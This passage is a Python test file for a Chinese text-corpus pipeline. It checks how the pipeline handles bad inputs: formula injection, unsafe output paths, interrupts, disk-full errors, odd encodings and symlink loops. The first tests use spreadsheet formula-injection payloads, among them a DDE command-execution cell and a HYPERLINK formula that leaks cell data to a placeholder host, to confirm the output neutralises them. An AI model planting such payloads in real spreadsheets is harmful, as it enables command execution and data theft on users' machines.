"""Issue 18: the bad-input matrix, one test (or a few) per row, with every fixture made in the test.

Rows: 1 formulas · 2 --out onto the manifest · 3 --out inside raw · 4 concurrent writers · 5 interrupts ·
6 disk full · 7 run interrupted · 8 CR-only line ends · 9 10 MB one-line page · 10 huge segmented page ·
11 unreadable entries · 12 reserved manifest columns · 13 control characters in xlsx · 14 --out checked
before work · 15 manifest encodings · 16 run with bad inputs · 17 a notebook that fails · 18 manifest line
numbers · 19 .TXT, linked folders, hidden files · 20 NUL and duplicate header · 21 same-stem ids ·
22 byte-identical workbooks · 23 UTF-16 without BOM, a bad byte · 24 warnings at scale.
Then property tests: random bytes and random Unicode through loading, cleaning, segmentation, metrics.
"""
from __future__ import annotations

import errno
import hashlib
import logging
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers.cli import main
from helpers.core.tables import (
    OutputError,
    provenance_path,
    read_provenance,
    read_table,
    safe_cell,
    sha256_file,
    write_table,
    write_workbook,
)
from helpers.ingest.corpus import ManifestError, decode_bytes, load_corpus, read_manifest

PAGE = ("市委巡察组进驻以来，共发现问题128个，已完成整改96个，整改率75%。\n"
        "巡察组向有关部门移交问题线索12件，给予党纪政务处分5人。\n")
ROOT = Path(__file__).resolve().parents[1]


def _corpus(folder: Path, pages: dict[str, str] | None = None, manifest: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in (pages or {"a.txt": PAGE}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    if manifest is not None:
        (folder / "manifest.csv").write_text(manifest, encoding="utf-8")
    return folder


def _snapshot(folder: Path) -> dict[str, str]:
    """Hashes of the files a reader sees (hidden temporaries of a write in progress left out)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and ".tmp-" not in p.name}


def _no_formulas(path: Path) -> list:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))]


# ----------------------------------------------------------------------------- 1 formulas
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak="&A1)', "+1+2", "-3+4", "@SUM(A1)",
           "\tTAB", "\rCR", "'quoted"]


def test_row01_formula_text_is_never_a_formula_in_xlsx_or_csv(tmp_path, caplog):
    pages = {"=cmd.txt": HOSTILE[0] + "\n" + PAGE, "b.txt": HOSTILE[1] + PAGE}
    corpus = _corpus(tmp_path / "c", pages, manifest='file,place\n=cmd.txt,"=HYPERLINK(""http://e"")"\n'
                                                     "b.txt,@SUM(1)\n")
    out = tmp_path / "docs.xlsx"
    assert main(["corpus", str(corpus), "--out", str(out), "-q"]) == 0
    assert _no_formulas(out) == []
    csv_out = tmp_path / "docs.csv"
    assert main(["corpus", str(corpus), "--out", str(csv_out), "-q"]) == 0
    import csv

    cells = [c for row in csv.reader(csv_out.open(encoding="utf-8", newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    back = read_table(csv_out)  # the quote comes off again
    assert set(back["file"]) == {"=cmd.txt", "b.txt"}
    assert back.set_index("file").loc["b.txt", "place"] == "@SUM(1)"
    assert back.set_index("file").loc["=cmd.txt", "text"].startswith(HOSTILE[0])


def test_row01_every_hostile_cell_round_trips_and_workbook_holds_strings(tmp_path):
    df = pd.DataFrame({"=col": HOSTILE, "n": range(len(HOSTILE))})
    for suffix in (".csv", ".xlsx"):
        path = write_table(df, tmp_path / f"t{suffix}")
        back = read_table(path)
        assert list(back.columns) == ["=col", "n"]
        assert back["=col"].tolist() == HOSTILE
    book = tmp_path / "book.xlsx"
    write_workbook({"hostile": df, "more": df.rename(columns={"=col": "x"})}, book)
    assert _no_formulas(book) == [] and _no_formulas(tmp_path / "t.xlsx") == []
    import openpyxl

    types = {c.data_type for ws in openpyxl.load_workbook(book).worksheets for row in ws.iter_rows(min_col=1, max_col=1)
             for c in row}
    assert types == {"s"}
    assert [safe_cell(v)[:1] for v in HOSTILE] == ["'"] * len(HOSTILE)
    assert safe_cell(3) == 3 and safe_cell("巡察") == "巡察"


# ----------------------------------------------------------------------------- 2, 3 raw is read-only
def test_row02_out_onto_the_manifest_is_refused_and_manifest_kept(tmp_path, caplog):
    corpus = _corpus(tmp_path / "c", manifest="file,place\na.txt,成都市\n")
    before = _snapshot(corpus)
    assert main(["corpus", str(corpus), "--out", str(corpus / "manifest.csv")]) == 1
    assert "read-only" in caplog.text
    assert _snapshot(corpus) == before
    # an explicit manifest elsewhere is an input too
    elsewhere = tmp_path / "meta.csv"
    elsewhere.write_text("file,place\na.txt,成都市\n", encoding="utf-8")
    assert main(["corpus", str(corpus / "a.txt"), "--manifest", str(elsewhere), "--out", str(elsewhere)]) == 1
    assert elsewhere.read_text(encoding="utf-8") == "file,place\na.txt,成都市\n"


@pytest.mark.parametrize("cmd", ["corpus", "segment", "metrics"])
def test_row03_out_inside_the_raw_folder_is_refused(tmp_path, caplog, cmd):
    corpus = _corpus(tmp_path / "c")
    before = _snapshot(corpus)
    for target in (corpus / "out.csv", corpus / "sub" / "deeper" / "out.parquet", corpus / "a.txt"):
        assert main([cmd, str(corpus), "--out", str(target)]) == 1
    assert _snapshot(corpus) == before
    assert "inside the input folder" in caplog.text or "is an input" in caplog.text


def test_row03_build_into_the_raw_folder_is_refused(tmp_path, caplog):
    corpus = _corpus(tmp_path / "c")
    before = _snapshot(corpus)
    assert main(["build", "--raw-dir", str(corpus), "--processed-dir", str(corpus / "processed")]) == 1
    assert main(["build", str(corpus), "--processed-dir", str(corpus)]) == 1
    assert _snapshot(corpus) == before and "read-only" in caplog.text


def test_row03_run_with_processed_dir_in_raw_is_refused_before_any_work(tmp_path, caplog, monkeypatch):
    import papermill

    corpus = _corpus(tmp_path / "c")
    before = _snapshot(corpus)
    monkeypatch.setattr(papermill, "execute_notebook", lambda *a, **k: pytest.fail("a notebook started"))
    for extra in (["--processed-dir", str(corpus)], ["--processed-dir", str(corpus / "processed")],
                  ["--reports-dir", str(corpus / "reports"), "--processed-dir", str(tmp_path / "p")]):
        assert main(["run", "--raw-dir", str(corpus), *extra]) != 0
    assert _snapshot(corpus) == before
    assert "read-only" in caplog.text


# ----------------------------------------------------------------------------- 4 concurrent writers
_WRITER = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    import pandas as pd
    from helpers.core.tables import write_table
    k = int(sys.argv[2])
    df = pd.DataFrame({"writer": [k] * 10000, "text": [f"巡察{k}-{i}" * 5 for i in range(10000)]})
    gate = Path(sys.argv[1]).parent.parent
    (gate / f"ready{k}").touch()
    while len(list(gate.glob("ready*"))) < 3:  # start together, so the writes overlap
        time.sleep(0.01)
    for _ in range(3):
        write_table(df, sys.argv[1], step=f"writer{k}")
""")


def test_row04_concurrent_writers_never_leave_a_mixed_file(tmp_path):
    out = tmp_path / "out" / "t.csv"
    procs = [subprocess.Popen([sys.executable, "-c", _WRITER, str(out), str(k)]) for k in range(3)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0]
    back = read_table(out)
    assert len(back) == 10000 and back["writer"].nunique() == 1  # one writer's whole table
    rec = read_provenance(out)
    assert rec["table_sha256"] == sha256_file(out) and rec["step"] == f"writer{back['writer'][0]}"
    assert sorted(p.name for p in out.parent.iterdir()) == [".xuncha.lock", "t.csv", "t.csv.provenance.json"]


# ----------------------------------------------------------------------------- 5 interrupts
_SLOW_WRITE = textwrap.dedent("""
    import sys, time
    import pandas as pd
    real = pd.DataFrame.to_csv
    def slow(self, path, *a, **k):
        with open(path, "w", encoding="utf-8") as fh:
            fh.write("doc_id,te")
            fh.flush()
            print("writing", flush=True)
            time.sleep(60)
    pd.DataFrame.to_csv = slow
    from helpers.cli import main
    sys.exit(main(["corpus", sys.argv[1], "--out", sys.argv[2], "-q"]))
""")


@pytest.mark.parametrize("sig, code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_row05_interrupt_during_a_write_keeps_the_previous_table(tmp_path, sig, code):
    corpus = _corpus(tmp_path / "c")
    out = tmp_path / "out" / "documents.csv"
    assert main(["corpus", str(corpus), "--out", str(out), "-q"]) == 0
    before = _snapshot(out.parent)
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_WRITE, str(corpus), str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "writing"
    assert _snapshot(out.parent) == before  # a reader never sees a half-written table
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == code, err
    assert "previous" in err or "not replaced" in err
    assert _snapshot(out.parent) == before
    assert [p.name for p in out.parent.iterdir() if ".tmp-" in p.name] == []


def test_row05_stale_temporary_of_a_killed_process_is_cleaned(tmp_path):
    out = tmp_path / "t.csv"
    stale = tmp_path / ".t.tmp-999999999-abcd.csv"  # no such pid
    stale.write_text("half", encoding="utf-8")
    write_table(pd.DataFrame({"a": [1]}), out)
    assert not stale.exists()


# ----------------------------------------------------------------------------- 6 disk full
def test_row06_disk_full_keeps_previous_table_and_sidecar(tmp_path, monkeypatch, caplog):
    out = tmp_path / "t.csv"
    write_table(pd.DataFrame({"a": [1, 2]}), out, step="good")
    before = _snapshot(tmp_path)

    def full(self, path, *a, **k):
        Path(path).write_text("a\n1", encoding="utf-8")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    with pytest.raises(OutputError, match="No space left on device.*unchanged"):
        write_table(pd.DataFrame({"a": [3, 4, 5]}), out, step="bad")
    assert _snapshot(tmp_path) == before
    assert read_provenance(out)["step"] == "good"
    corpus = _corpus(tmp_path / "c")
    assert main(["corpus", str(corpus), "--out", str(out)]) == 1
    assert "No space left on device" in caplog.text and str(out) in caplog.text
    assert _snapshot(tmp_path).items() >= before.items()


def test_row06_empty_or_broken_sidecar_names_the_file(tmp_path):
    out = write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.csv")
    provenance_path(out).write_bytes(b"")
    with pytest.raises(ValueError, match=r"t\.csv\.provenance\.json.*empty"):
        read_provenance(out)
    provenance_path(out).write_bytes(b"{not json")
    with pytest.raises(ValueError, match="not valid JSON"):
        read_provenance(out)


# ----------------------------------------------------------------------------- 7, 16, 17 run
def _notebooks(folder: Path, names=("01_a", "02_b")) -> Path:
    import nbformat

    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")]), folder / f"{name}.ipynb")
    return folder


def _paths(tmp_path: Path, corpus: Path):
    from helpers.core.config import Paths

    return Paths(raw=corpus, processed=tmp_path / "processed", reports=tmp_path / "reports",
                 notebooks=_notebooks(tmp_path / "nb"))


def test_row07_an_interrupted_run_leaves_the_folder_marked_incomplete(tmp_path, monkeypatch):
    import papermill

    from helpers import pipeline
    from helpers.viz import report

    corpus = _corpus(tmp_path / "c")
    paths = _paths(tmp_path, corpus)
    monkeypatch.setattr(report, "build_report", lambda paths, **k: paths.reports / "index.html")

    def interrupted(nb, out, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(papermill, "execute_notebook", interrupted)
    with pytest.raises(KeyboardInterrupt):
        pipeline.run_all(paths, only="01,02")
    marker = paths.processed / pipeline.INCOMPLETE_MARKER
    assert marker.is_file() and "not finished" in marker.read_text(encoding="utf-8")
    monkeypatch.setattr(papermill, "execute_notebook", lambda nb, out, **k: Path(out).write_text("{}"))
    assert pipeline.run_all(paths, only="01,02") == 0
    assert not marker.exists()


def test_row16_run_with_bad_manifest_or_missing_raw_fails_before_any_notebook(tmp_path, monkeypatch, caplog):
    import papermill

    monkeypatch.setattr(papermill, "execute_notebook", lambda *a, **k: pytest.fail("a notebook started"))
    bad = _corpus(tmp_path / "bad", manifest="file,date,date_precision\na.txt,2023-99,month\n")
    rc = main(["run", "--raw-dir", str(bad), "--processed-dir", str(tmp_path / "p"),
               "--reports-dir", str(tmp_path / "r")])
    assert rc == 2 and "line 2, column 'date'" in caplog.text
    caplog.clear()
    rc = main(["run", "--raw-dir", str(tmp_path / "missing"), "--processed-dir", str(tmp_path / "p"),
               "--reports-dir", str(tmp_path / "r")])
    assert rc == 2 and "missing" in caplog.text and "Traceback" not in caplog.text
    assert len(caplog.text.strip().splitlines()) == 1


def test_row17_a_failing_notebook_shows_its_last_error_in_one_block(tmp_path, monkeypatch, capsys):
    import papermill
    from papermill.exceptions import PapermillExecutionError

    from helpers import pipeline
    from helpers.viz import report

    corpus = _corpus(tmp_path / "c")
    paths = _paths(tmp_path, corpus)
    built = []
    monkeypatch.setattr(report, "build_report", lambda paths, **k: built.append(1) or paths.reports / "index.html")

    def fail(nb, out, **k):
        if "02_" in nb:
            raise PapermillExecutionError(cell_index=3, exec_count=4, source="fit()", ename="ValueError",
                                          evalue="max_df corresponds to < documents than min_df",
                                          traceback=["\x1b[0;31mlong\x1b[0m"] * 60)
        Path(out).write_text("{}")

    monkeypatch.setattr(papermill, "execute_notebook", fail)
    assert pipeline.run_all(paths, only="01,02") == 1
    out = capsys.readouterr().out
    assert "02_b.ipynb failed" in out and "ValueError: max_df corresponds to < documents than min_df" in out
    assert out.count("long") == 0 and len(out.splitlines()) < 15
    assert built  # the report is still written


# ----------------------------------------------------------------------------- 8 CR-only line ends
def test_row08_cr_only_pages_read_back_with_the_same_rows(tmp_path):
    pages = {f"p{i}.txt": PAGE.replace("\n", "\r") * 3 for i in range(3)}
    corpus = _corpus(tmp_path / "c", pages)
    out = tmp_path / "documents.csv"
    assert main(["corpus", str(corpus), "--out", str(out), "-q"]) == 0
    back = read_table(out)
    assert len(back) == 3 and back["text"].tolist() == [pages["p0.txt"]] * 3
    assert len(pd.read_csv(out)) == 3


# ----------------------------------------------------------------------------- 9, 10 linear time
def _one_line_page(n_chars: int) -> str:
    base = (ROOT / "data" / "raw" / "004_a0103a6b34b63d51.txt").read_text(encoding="utf-8").replace("\n", "")
    return (base * (n_chars // len(base) + 1))[:n_chars]


def _timed(fn, *args) -> float:
    t0 = time.perf_counter()
    fn(*args)
    return time.perf_counter() - t0


def test_row09_metrics_on_a_page_without_line_breaks_is_linear():
    from helpers.figures.metrics import extract_metrics

    small, big = _one_line_page(30_000), _one_line_page(240_000)
    extract_metrics(small)  # warm the caches
    t_small = min(_timed(extract_metrics, small) for _ in range(2))
    t_big = _timed(extract_metrics, big)
    assert t_big < 20 * t_small + 1.0, (t_small, t_big)  # 8x the text; quadratic was 64x


def test_row10_cohesion_is_linear_in_page_length():
    from helpers.pages.cleaning import clean_text
    from helpers.pages.segmentation import paragraphs_of, segment_paragraphs

    block = "巡察工作动员部署会召开\n" + PAGE * 2 + "乡村振兴项目建设推进会举行\n" + "全县各地加快推进项目建设，确保项目早日投产达效。\n" * 3

    def run(n):
        segment_paragraphs(paragraphs_of(clean_text(block * n)))

    run(20)
    t_small = min(_timed(run, 100) for _ in range(2))
    t_big = _timed(run, 800)
    assert t_big < 20 * t_small + 1.0, (t_small, t_big)


def test_row10_sparse_cohesion_equals_the_dense_cosine():
    import numpy as np

    from helpers.pages.cleaning import clean_text
    from helpers.pages.segmentation import Cohesion, paragraphs_of

    paras = paragraphs_of(clean_text((ROOT / "data" / "raw" / "000_01b1e1cee753312d.txt").read_text(encoding="utf-8")))
    coh = Cohesion(paras)
    for left, right in [([0, 1], [2, 3]), ([4], [5, 6, 7]), ([1, 1, 2], [2]), ([0], [])]:
        if not left or not right:
            assert coh.similarity(left, right) == 0.0
            continue
        a, b = coh.vector(left), coh.vector(right)
        dense = float(a @ b) / float(np.sqrt(a @ a) * np.sqrt(b @ b))
        assert coh.similarity(left, right) == pytest.approx(dense, abs=1e-12)


# ----------------------------------------------------------------------------- 11 entries that are not files
def test_row11_bad_entries_are_skipped_with_reasons(tmp_path, caplog):
    corpus = _corpus(tmp_path / "c", {"good.txt": PAGE})
    (corpus / "x.txt").mkdir()
    (corpus / "x.txt" / "inner.txt").write_text(PAGE, encoding="utf-8")
    (corpus / "loop1.txt").symlink_to("loop2.txt")
    (corpus / "loop2.txt").symlink_to("loop1.txt")
    (corpus / "dangling.txt").symlink_to("nowhere.txt")
    os.mkfifo(corpus / "pipe.txt")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(corpus / "sock.txt"))
    (corpus / "sub").mkdir()
    (corpus / "sub" / "up.txt").symlink_to("..")  # a link back up: followed once, never again
    old = signal.signal(signal.SIGALRM, lambda *a: pytest.fail("hung on a FIFO"))
    signal.alarm(30)
    try:
        with caplog.at_level(logging.WARNING):
            docs = load_corpus(corpus)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
        sock.close()
    assert sorted(docs["file"]) == ["good.txt", "inner.txt"]
    reasons = {Path(s["file"]).name: s["reason"] for s in docs.attrs["skipped"]}
    assert "symbolic link loop" in reasons["loop1.txt"] and "symbolic link loop" in reasons["loop2.txt"]
    assert "dangling" in reasons["dangling.txt"]
    assert "FIFO" in reasons["pipe.txt"] and "socket" in reasons["sock.txt"]
    assert "folder" in reasons["x.txt"]
    assert "already searched" in reasons["up.txt"]
    assert "pipe.txt" in caplog.text and "skipped" in caplog.text


def test_row11_permission_and_io_errors_skip_one_file(tmp_path, monkeypatch, caplog):
    from helpers.ingest import corpus as corpus_module

    corpus = _corpus(tmp_path / "c", {"good.txt": PAGE, "locked.txt": PAGE, "broken.txt": PAGE})
    real = corpus_module.read_file_bytes

    def flaky(path):
        if Path(path).name == "locked.txt":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        if Path(path).name == "broken.txt":
            raise OSError(errno.EIO, "Input/output error", str(path))
        return real(path)

    monkeypatch.setattr(corpus_module, "read_file_bytes", flaky)
    docs = load_corpus(corpus)
    assert docs["file"].tolist() == ["good.txt"]
    reasons = {Path(s["file"]).name: s["reason"] for s in docs.attrs["skipped"]}
    assert reasons == {"locked.txt": "permission denied", "broken.txt": "cannot be read: Input/output error"}
    assert "skipped 2 file(s)" in caplog.text


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_row11_unreadable_file_for_real(tmp_path):
    corpus = _corpus(tmp_path / "c", {"good.txt": PAGE, "locked.txt": PAGE})
    (corpus / "locked.txt").chmod(0)
    docs = load_corpus(corpus)
    assert docs["file"].tolist() == ["good.txt"]


# ----------------------------------------------------------------------------- 12 reserved manifest columns
@pytest.mark.parametrize("column, read_as", [("text", "manifest_text"), ("encoding", "manifest_encoding"),
                                             ("n_chars", "manifest_n_chars"), ("sha256", "manifest_sha256"),
                                             ("doc_id", "id")])  # doc_id is an alias of the manifest's id
def test_row12_reserved_manifest_column_is_renamed_with_a_warning(tmp_path, caplog, column, read_as):
    corpus = _corpus(tmp_path / "c", manifest=f"file,{column},place\na.txt,x,成都市\n")
    with caplog.at_level(logging.WARNING):
        docs = load_corpus(corpus)
    assert read_as.startswith("manifest_") <= (read_as in caplog.text)
    assert docs.loc[0, read_as] == "x" and docs.loc[0, "place"] == "成都市"
    assert docs.loc[0, "text"] == PAGE and docs.loc[0, "doc_id"] == "a"


# ----------------------------------------------------------------------------- 13 control characters in xlsx
def test_row13_control_characters_in_xlsx_are_replaced(tmp_path, caplog):
    import openpyxl

    corpus = _corpus(tmp_path / "c", {"ctl.txt": "巡察\x01组\x0b发现问题3个。" + PAGE * 3})
    out = tmp_path / "d.xlsx"
    assert main(["corpus", str(corpus), "--out", str(out), "-q"]) == 0
    cells = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("巡察\ufffd组\ufffd") for v in cells)
    assert [p.name for p in tmp_path.iterdir() if ".tmp-" in p.name] == []


# ----------------------------------------------------------------------------- 14 --out checked before work
@pytest.mark.parametrize("make_out, message", [
    (lambda t: t / "existing_dir", "is a folder"),
    (lambda t: t / "a_file" / "out.csv", "is a file, not a folder"),
    (lambda t: t / "out.json", "unknown table format"),
    (lambda t: t / "out", "unknown table format"),
])
def test_row14_bad_out_is_refused_before_loading(tmp_path, monkeypatch, caplog, make_out, message):
    from helpers.ingest import corpus as corpus_module

    (tmp_path / "existing_dir").mkdir()
    (tmp_path / "a_file").write_text("x")
    corpus = _corpus(tmp_path / "c")
    monkeypatch.setattr(corpus_module, "load_corpus", lambda *a, **k: pytest.fail("loaded before checking --out"))
    for cmd in ("corpus", "segment", "metrics"):
        assert main([cmd, str(corpus), "--out", str(make_out(tmp_path))]) == 1
    assert message in caplog.text and "Traceback" not in caplog.text


def test_row14_unwritable_out_refused_and_upper_case_suffix_accepted(tmp_path, monkeypatch, caplog):
    from helpers.core import tables

    corpus = _corpus(tmp_path / "c")
    assert main(["corpus", str(corpus), "--out", str(tmp_path / "UP.CSV"), "-q"]) == 0
    assert read_table(tmp_path / "UP.CSV")["file"].tolist() == ["a.txt"]
    monkeypatch.setattr(tables.os, "access", lambda p, mode: False)
    assert main(["corpus", str(corpus), "--out", str(tmp_path / "ro" / "x.parquet")]) == 1
    assert "not writable" in caplog.text


# ----------------------------------------------------------------------------- 15 manifest encodings
@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-16", "utf-16-le", "utf-8-sig", "utf-8"])
def test_row15_manifest_in_any_page_encoding(tmp_path, encoding):
    corpus = _corpus(tmp_path / "c")
    (corpus / "manifest.csv").write_bytes("file,place,source\na.txt,成都市,某某日报\n".encode(encoding))
    docs = load_corpus(corpus)
    assert docs.loc[0, "place"] == "成都市" and docs.loc[0, "source"] == "某某日报"


def test_row15_undecodable_manifest_names_the_file(tmp_path):
    path = tmp_path / "manifest.csv"
    path.write_bytes(bytes(range(0x80, 0x100)) * 3)
    with pytest.raises(ManifestError, match="manifest.csv: cannot be read"):
        read_manifest(path)


# ----------------------------------------------------------------------------- 18 manifest line numbers
def test_row18_multiline_field_then_bad_row_names_the_right_line(tmp_path):
    path = tmp_path / "manifest.csv"
    path.write_text('file,source,date,date_precision\na.txt,"第一行\n第二行\n第三行",2023,year\n'
                    "b.txt,报,2023-13,month\n", encoding="utf-8")
    with pytest.raises(ManifestError, match=r"line 5, column 'date'"):
        read_manifest(path)
    path.write_text('file,source\na.txt,"unclosed\nb.txt,x\n', encoding="utf-8")
    with pytest.raises(ManifestError, match=r"line 2: a quoted field opened on this line is never closed"):
        read_manifest(path)
    path.write_text('file,source\na.txt,x\n"b.txt"junk,y\n', encoding="utf-8")
    with pytest.raises(ManifestError, match=r"line 3: malformed CSV"):
        read_manifest(path)


# ----------------------------------------------------------------------------- 19 .TXT, linked folders, hidden files
def test_row19_upper_case_suffix_linked_folder_and_hidden_files(tmp_path):
    outside = _corpus(tmp_path / "outside", {"linked.txt": PAGE})
    corpus = _corpus(tmp_path / "c", {"PAGE.TXT": PAGE, ".hidden.txt": PAGE, ".cache/x.txt": PAGE})
    (corpus / "more").symlink_to(outside, target_is_directory=True)
    (corpus / "again").symlink_to(outside, target_is_directory=True)  # a second way in: read once
    docs = load_corpus(corpus)
    assert sorted(docs["file"]) == ["PAGE.TXT", "linked.txt"]
    reasons = {Path(s["file"]).name: s["reason"] for s in docs.attrs["skipped"]}
    assert reasons[".hidden.txt"].startswith("hidden file") and reasons[".cache"].startswith("hidden folder")
    assert "already searched" in reasons["more"]


# ----------------------------------------------------------------------------- 20 NUL and duplicate header
def test_row20_nul_in_header_and_duplicate_columns_are_rejected(tmp_path):
    path = tmp_path / "manifest.csv"
    path.write_bytes(b"file,pla\x00ce\na.txt,x\n")
    with pytest.raises(ManifestError, match=r"manifest.csv: line 1.*NUL"):
        read_manifest(path)
    path.write_text("file,place,date,place\na.txt,x,2023,y\n", encoding="utf-8")
    with pytest.raises(ManifestError, match=r"line 1: column\(s\) 'place' appear more than once"):
        read_manifest(path)


# ----------------------------------------------------------------------------- 21 same-stem ids
def test_row21_same_stem_ids_do_not_depend_on_the_absolute_path(tmp_path):
    ids = []
    for where in ("here", "there/deeper"):
        root = tmp_path / where
        _corpus(root / "north", {"page1.txt": PAGE})
        _corpus(root / "south", {"page1.txt": PAGE})
        ids.append(sorted(load_corpus(root)["doc_id"]))
        ids.append(sorted(load_corpus([root / "north", root / "south"])["doc_id"]))
        ids.append(sorted(load_corpus([root / "north" / "page1.txt", root / "south" / "page1.txt"])["doc_id"]))
    assert all(i == ["north/page1", "south/page1"] for i in ids), ids


# ----------------------------------------------------------------------------- 22 byte-identical workbooks
def test_row22_workbooks_are_byte_identical_across_runs(tmp_path):
    df = pd.DataFrame({"doc_id": ["a", "b"], "text": ["=1+1", "巡察"], "value": [1.5, None]})
    digests = []
    for run in range(2):
        write_workbook({"metrics": df, "articles": df}, tmp_path / f"w{run}.xlsx")
        write_table(df, tmp_path / f"t{run}.xlsx")
        digests.append((sha256_file(tmp_path / f"w{run}.xlsx"), sha256_file(tmp_path / f"t{run}.xlsx")))
        time.sleep(1.1)  # zip times have a two-second grain: make sure the clock moved
    assert digests[0] == digests[1]


# ----------------------------------------------------------------------------- 23 UTF-16 without BOM, a bad byte
@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_row23_utf16_without_bom_is_read(tmp_path, encoding):
    (tmp_path / "p.txt").write_bytes(PAGE.encode(encoding))
    docs = load_corpus(tmp_path)
    assert docs.loc[0, "text"] == PAGE and docs.loc[0, "encoding"] == encoding


def test_row23_a_bad_byte_keeps_the_page_and_reports_its_offset(tmp_path, caplog):
    data = (PAGE * 3).encode("utf-8")
    (tmp_path / "p.txt").write_bytes(data[:30] + b"\xff" + data[30:])
    with caplog.at_level(logging.WARNING):
        docs = load_corpus(tmp_path)
    assert len(docs) == 1 and "\ufffd" in docs.loc[0, "text"] and "巡察组" in docs.loc[0, "text"]
    assert "byte offset(s) 30" in caplog.text
    assert docs.attrs["warnings"][0]["offsets"] == [30]
    with pytest.raises(ValueError):  # binary stays binary
        decode_bytes(bytes(range(256)) * 4)


# ----------------------------------------------------------------------------- 24 warnings at scale
def test_row24_page_warnings_are_summarised_in_one_line(tmp_path, caplog):
    from helpers.pipeline import segment_documents

    pages = {f"p{i:03d}.txt": PAGE for i in range(40)}
    pages.update({"empty.txt": "", "bin.txt": "\x00\x01"})
    corpus = _corpus(tmp_path / "c", pages)
    with caplog.at_level(logging.WARNING):
        docs = load_corpus(corpus)
        caplog.clear()
        arts = segment_documents(docs)
    lines = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(lines) == 1, lines
    assert "40 × no article boundary" in lines[0] and "p000.txt" in lines[0]
    notes = arts.attrs["warnings"]
    assert len(notes) == 40 and {n["kind"] for n in notes} == {"no article boundary"}
    assert len(docs.attrs["skipped"]) == 2


# ----------------------------------------------------------------------------- property tests
_HOSTILE_TEXT = st.text(alphabet=st.one_of(
    st.characters(),
    st.sampled_from(["\ud800", "\udfff", "\ufffe", "\x7f", "\x85", "\u2028"]),  # surrogates and odd controls
    st.sampled_from(list("\x00\r\n\t\u3000 ，。；！？巡察组发现问题个件人次%％余近约1234567890一二三十百千万年月日第届市县区委")),
), max_size=400)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=600))
def test_random_bytes_never_break_the_loader(data):
    import tempfile

    try:
        text, enc = decode_bytes(data)
        assert isinstance(text, str) and enc
    except ValueError:
        pass
    with tempfile.TemporaryDirectory() as tmp:
        Path(tmp, "p.txt").write_bytes(data)
        docs = load_corpus(tmp)
        assert len(docs) + len(docs.attrs["skipped"]) == 1


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=_HOSTILE_TEXT)
def test_random_unicode_through_cleaning_segmentation_and_metrics(raw):
    from helpers.pages.cleaning import clean_text
    from helpers.pipeline import _page, extract_document_metrics

    clean = clean_text(raw)
    for i in range(0, len(clean.text) + 1, max(1, len(clean.text) // 7)):
        a, b = clean.raw_span(i, min(len(clean.text), i + 5))
        assert 0 <= a <= b <= len(raw)
    _, segments, rows = _page("d", "d.txt", raw)
    for r in rows:
        assert 0 <= r["start"] <= r["end"] <= len(raw)
    docs = pd.DataFrame({"doc_id": ["d"], "file": ["d.txt"], "text": [raw]}, dtype=object)
    mets = extract_document_metrics(docs, relevant_only=False)
    for r in mets.itertuples():
        assert 0 <= r.start <= r.end <= len(raw)
        assert "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in raw[r.start:r.end]) == r.value_text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(cell=_HOSTILE_TEXT)
def test_random_cells_round_trip_through_csv_without_formulas(tmp_path, cell):
    from helpers.core.tables import FORMULA_PREFIXES

    # object dtype: pandas' default arrow strings cannot even hold a lone surrogate, the tables' reader may
    path = write_table(pd.DataFrame({"t": [cell, "x"]}, dtype=object), tmp_path / "t.csv")
    back = read_table(path)
    expected = "".join("\ufffd" if 0xD800 <= ord(c) <= 0xDFFF else c for c in cell)
    got = back["t"][0]
    assert (got if isinstance(got, str) else "") == expected
    import csv

    for row in csv.reader(path.open(encoding="utf-8", newline="")):
        assert not row[0].startswith(FORMULA_PREFIXES)


# ----------------------------------------------------------------------------- the fast bounds equal the scans
def _sentence_bounds_by_scanning(text, pos):
    import re

    from helpers.figures.metrics import _SENT_END, _SENT_END_CHARS

    a = max(text.rfind(c, 0, pos) for c in _SENT_END_CHARS)
    dot = text.rfind(".", a + 1, pos)
    while dot >= 0 and re.match(r"[\dA-Za-z]", text[dot + 1:dot + 2]):
